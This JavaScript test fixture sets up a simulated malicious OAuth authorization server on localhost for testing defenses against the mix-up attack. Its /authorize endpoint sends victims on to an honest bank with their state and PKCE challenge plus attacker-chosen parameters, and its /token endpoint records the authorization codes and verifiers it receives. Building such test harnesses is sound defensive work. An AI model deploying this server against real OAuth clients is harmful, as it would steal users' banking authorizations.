// A malicious authorization server, for the mix-up attack (RFC 9700 §4.4): one of the
// providers the Worker is configured with, run by an attacker. It publishes honest-looking
// metadata (no RFC 9207 `iss`), and its authorization endpoint does not authenticate anyone:
// it sends the victim on to an honest bank, with the victim's own `state` and PKCE challenge
// and the request the attacker chose (`plan`), hoping the honest bank's code comes back to a
// callback that spends it at this server's token endpoint. Everything it receives is kept on
// `received`, so a test can tell whether anything reached it.
//
//   const attacker = await startAttackerAs({ port: 9102 });
//   attacker.plan = { authorizationEndpoint, clientId, redirectUri, scope };
//   ... attacker.received.authorizations, attacker.received.tokenRequests

import { createServer } from 'node:http';

import { listen } from '../../bank/server.mjs';

export async function startAttackerAs({ port }) {
  const issuer = `http://localhost:${port}`;
  const received = { authorizations: [], tokenRequests: [] };
  const attacker = { issuer, received, plan: null };

  const metadata = {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code'],
    code_challenge_methods_supported: ['S256'],
    token_endpoint_auth_methods_supported: ['client_secret_basic'],
    scopes_supported: ['accounts', 'balance'],
  };

  const server = createServer(async (req, res) => {
    const url = new URL(req.url, issuer);
    const json = (status, body) => {
      res.writeHead(status, { 'Content-Type': 'application/json', 'Cache-Control': 'no-store' });
      res.end(JSON.stringify(body));
    };
    if (req.method === 'GET' && url.pathname === '/.well-known/openid-configuration') {
      json(200, metadata);
      return;
    }
    if (req.method === 'GET' && url.pathname === '/authorize') {
      const params = Object.fromEntries(url.searchParams);
      received.authorizations.push(params);
      const { plan } = attacker;
      if (!plan) {
        json(400, { error: 'server_error', error_description: 'no plan' });
        return;
      }
      // The victim's state and challenge, the attacker's choice of everything else.
      const onward = new URL(plan.authorizationEndpoint);
      onward.search = new URLSearchParams({
        response_type: 'code',
        client_id: plan.clientId,
        redirect_uri: plan.redirectUri,
        scope: plan.scope,
        state: params.state,
        code_challenge: params.code_challenge,
        code_challenge_method: params.code_challenge_method,
      }).toString();
      res.writeHead(302, { Location: onward.toString() });
      res.end();
      return;
    }
    if (req.method === 'POST' && url.pathname === '/token') {
      const chunks = [];
      for await (const chunk of req) chunks.push(chunk);
      received.tokenRequests.push(Object.fromEntries(new URLSearchParams(Buffer.concat(chunks).toString('utf8'))));
      // What it got is all it wanted: the victim's flow fails, the code and verifier are the
      // attacker's now.
      json(400, { error: 'invalid_grant' });
      return;
    }
    json(404, { error: 'not_found' });
  });
  attacker.close = await listen(server, port);
  return attacker;
}
